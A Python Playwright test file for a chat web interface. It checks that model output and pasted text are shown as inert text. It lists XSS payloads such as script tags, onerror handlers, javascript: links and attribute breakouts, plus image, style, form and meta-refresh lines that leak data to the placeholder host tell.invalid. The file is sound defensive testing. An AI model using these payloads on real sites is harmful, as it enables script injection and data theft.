"""Whatever a model writes, or a person pastes: it is text here, and goes nowhere."""

import pytest
from playwright.sync_api import expect
from world import web

HACKED = "window.hacked = true"
ATTACKS = {
    "script": f"<script>{HACKED}</script>",
    "image that fails": f'<img src="x" onerror="{HACKED}">',
    "drawing": f'<svg onload="{HACKED}"><animate onbegin="{HACKED}"></svg>',
    "frame": f'<iframe srcdoc="<script>parent.{HACKED}</script>"></iframe>',
    "script link": f"[click](javascript:{HACKED.replace(' ', '')})",
    "script link in disguise": "[click](java&#115;cript:alert(1)) [two](JaVaScRiPt:alert(1)) "
                               "[three](\x01javascript:alert(1)) <javascript:alert(1)>",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "script reference": f"[click][a]\n\n[a]: javascript:{HACKED.replace(' ', '')}",
    "image that tells": "![secret](https://tell.invalid/?what=secret)",
    "style": '<style>* { background: url("https://tell.invalid/style") }</style>',
    "out of an attribute": f'[a](https://example.invalid/" onmouseover="{HACKED}) '
                           f'![b" onerror="{HACKED}](x)',
    "out of a code block": f'```"><img src=x onerror={HACKED.replace(" ", "")}>\ncode\n```',
    "form": '<form action="https://tell.invalid"><input name="q" autofocus></form>',
    "half an element": '<img src="x" onerror="',
    "nothing but a base": '<base href="https://tell.invalid/"><meta http-equiv="refresh" '
                          'content="0;url=https://tell.invalid/">',
}
FORBIDDEN = "script, img, iframe, style, form, svg:not(.icon), base, meta, object, embed, input"


def assert_harmless(screen, page):
    """Nothing ran, nothing was fetched from elsewhere, and no link leads to a script."""
    assert page.evaluate("window.hacked") is None
    place = page.locator(".log")
    assert place.locator(FORBIDDEN).count() == 0
    links = place.locator("a").evaluate_all("all => all.map(each => each.href)")
    assert all(link.startswith(("http://", "https://", "mailto:")) for link in links)
    assert all(request.startswith(screen.url) for request in screen.requests)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_model_writes_is_only_shown(screen, author, attack):
    question = f"Attack with: {attack}"
    text = ATTACKS[attack]
    script = author.on(question)
    # In two pieces, so that each half is drawn by itself.
    script.say(text[: len(text) // 2]).say(text[len(text) // 2:])
    screen.ask(question)
    script.say("\n\nThe end.").end()
    expect(screen.answer()).to_contain_text("The end.")
    expect(screen.answer()).to_have_attribute("aria-busy", "false")
    assert_harmless(screen, screen.page)
    screen.conversation_id()
    screen.page.reload()
    expect(screen.answer()).to_contain_text("The end.")
    assert_harmless(screen, screen.page)


def test_what_a_person_pastes_is_only_shown(screen):
    attack = ATTACKS["image that fails"]
    screen.ask(attack)
    expect(screen.questions().locator("p")).to_have_text(attack)
    expect(screen.answer()).to_have_attribute("aria-busy", "false")
    expect(screen.page.get_by_role("navigation", name="Conversations")).to_contain_text("<img")
    assert_harmless(screen, screen.page)


def test_no_text_becomes_html_or_a_script_even_if_the_page_tried(screen):
    tried = screen.page.evaluate("""() => [
      () => { document.body.innerHTML += '<p>x</p>'; },
      () => { document.createElement('script').src = 'https://tell.invalid/script.js'; },
      () => { document.createElement('script').textContent = 'window.hacked = true'; },
    ].map((attempt) => {
      try { attempt(); return 'went'; } catch (refused) { return refused.name; }
    })""")
    assert tried == ["TypeError"] * 3
    # The browser reports each to the console, as it should.
    screen.page.wait_for_function("true")
    assert len(screen.complaints) == 3
    screen.complaints.clear()


def test_the_page_asks_nobody_but_its_own_server(screen):
    screen.ask("Hello?")
    screen.words("You said: Hello?")
    assert {request.split("/")[2] for request in screen.requests} == {screen.url.split("/")[2]}
    answer = web.get(screen.url)
    assert "default-src 'none'" in answer.headers["Content-Security-Policy"]


MARKDOWN = """# A title

Some **bold**, *slanted*, ~~gone~~ and `code`, [a link](https://example.invalid/a?b=1&c=2), 5 < 6 &amp; 7.

- one
- two
  1. deep
  2. deeper
- [x] done

> quoted

| Left | Right |
|:--|--:|
| a | 1 |

```python
print("<b>not bold</b>")
```
"""


def test_markdown_is_shown_as_what_it_means(screen, author):
    author.on("Show me all of it").say(*MARKDOWN.splitlines(keepends=True)).end()
    screen.ask("Show me all of it")
    answer = screen.answer()
    expect(answer).to_have_attribute("aria-busy", "false")
    expect(answer.get_by_role("heading", name="A title")).to_be_visible()
    for tag, text in (("strong", "bold"), ("em", "slanted"), ("del", "gone"),
                      ("blockquote", "quoted"), ("ol > li:nth-child(2)", "deeper"),
                      ("td.to-right", "1"), ("pre code", 'print("<b>not bold</b>")'),
                      (".code-head span", "python")):
        expect(answer.locator(tag)).to_have_text(text)
    expect(answer.get_by_role("link", name="a link")).to_have_attribute(
        "href", "https://example.invalid/a?b=1&c=2")
    expect(answer.get_by_role("checkbox")).to_be_checked()
    expect(answer.locator("p").first).to_contain_text("5 < 6 & 7.")
